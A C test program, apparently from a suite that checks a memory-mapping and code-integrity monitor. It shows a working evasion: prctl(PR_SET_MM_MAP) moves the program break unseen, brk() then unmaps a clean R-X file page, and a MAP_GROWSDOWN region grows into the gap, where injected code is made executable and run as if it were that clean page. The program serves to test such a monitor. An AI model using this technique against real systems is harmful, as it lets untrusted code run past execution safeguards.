/*
 * Attack: prctl(PR_SET_MM, PR_SET_MM_MAP) (CAP_CHECKPOINT_RESTORE in the
 * caller's own user namespace: CRIU's restore) moves the kernel's program
 * break without any memory call, so a
 * model that keeps its own idea of the break is stale. brk() below the
 * moved break then unmaps whatever lies there, here a clean page of the
 * program's own file mapped R-X, and the model, which thinks the heap ends
 * lower, records a growth instead and keeps the clean page. A MAP_GROWSDOWN
 * region just above grows into the gap on a fault (no call); code written
 * there and mprotected R-X is judged as that clean file page.
 *
 *   file:  one page of /proc/self/exe mapped R-X at X (4 MiB above the
 *          heap, past the stack guard gap); one MAP_GROWSDOWN RW page at X+1;
 *   move:  prctl(PR_SET_MM, PR_SET_MM_MAP, {the process's own values, but
 *          brk = X+1 page}): the break is now there;
 *   cut:   brk(X): the kernel unmaps [X, X+1 page);
 *   grow:  write code at X (the GROWSDOWN region grows), mprotect it R-X, run.
 *
 * With argument "m32" the prctl is made through int $0x80 (i386), its
 * struct in memory below 4 GiB (the break itself is above: brk stays 64-bit).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/prctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

#include "common.h"

static long i386_call(long nr, long a, long b, long c, long d)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(0L) : "memory");
	return ret;
}

/* The process's own values from /proc/self/stat, with the break moved to brk. */
static int fill_map(struct prctl_mm_map *map, unsigned long brk)
{
	unsigned long v[52] = {0};
	char buf[2048], *p;
	FILE *f = fopen("/proc/self/stat", "re");
	int i;

	if (!f || !fgets(buf, sizeof(buf), f))
		return -1;
	fclose(f);
	p = strrchr(buf, ')');
	if (!p)
		return -1;
	p += 2; /* field 3 onwards */
	for (i = 3; i <= 51 && *p; i++) {
		v[i] = strtoul(p, &p, 10);
		if (*p == ' ')
			p++;
		else if (i == 3)
			p++, v[i] = 0; /* the state letter */
	}
	memset(map, 0, sizeof(*map));
	map->start_code = v[26];
	map->end_code = v[27];
	map->start_stack = v[28];
	map->start_data = v[45];
	map->end_data = v[46];
	map->start_brk = v[47];
	map->brk = brk;
	map->arg_start = v[48];
	map->arg_end = v[49];
	map->env_start = v[50];
	map->env_end = v[51];
	map->exe_fd = (unsigned)-1;
	return 0;
}

int main(int argc, char **argv)
{
	size_t pg = tw_page();
	int m32 = argc > 1 && strcmp(argv[1], "m32") == 0;
	char *heap, *x, *grows;
	struct prctl_mm_map map;
	struct tw_map m;
	long rc;
	int fd;

	tw_init();
	heap = sbrk(0);
	x = (char *)(((uintptr_t)heap + (64UL << 20)) & ~((uintptr_t)pg - 1));
	fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 1;
	if (tw_mmap("file_mmap", x, pg, TW_RX, MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 0) == MAP_FAILED)
		return tw_done();
	grows = tw_mmap("growsdown_mmap", x + pg, pg, TW_RW,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_GROWSDOWN, -1, 0);
	if (grows == MAP_FAILED)
		return tw_done();
	if (fill_map(&map, (unsigned long)(x + pg)) != 0)
		return 1;
	if (m32) {
		/* int $0x80 takes 32-bit pointers: the struct goes below 4 GiB. */
		struct prctl_mm_map *low = mmap(NULL, pg, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

		if (low == MAP_FAILED)
			return 1;
		*low = map;
		tw_step_raw("move_prctl", "prctl", i386_call(172, PR_SET_MM, PR_SET_MM_MAP, (long)low, sizeof(map)));
	} else {
		tw_step_raw("move_prctl", "prctl", syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0));
	}
	rc = syscall(SYS_brk, x);
	tw_step("cut_brk", "brk", rc == (long)(uintptr_t)x ? 0 : -1, EINVAL);
	if (tw_show_map("after_cut", x) >= 0)
		return tw_done();
	tw_put_code(x); /* a fault just below the GROWSDOWN region grows it */
	if (tw_find_map(x, &m) != 0 || m.perms[1] != 'w')
		return tw_done();
	tw_show_map("grown", x);
	if (tw_mprotect("grown_rx_mprotect", x, pg, TW_RX) == 0)
		tw_run("grown_call", x);
	return tw_done();
}
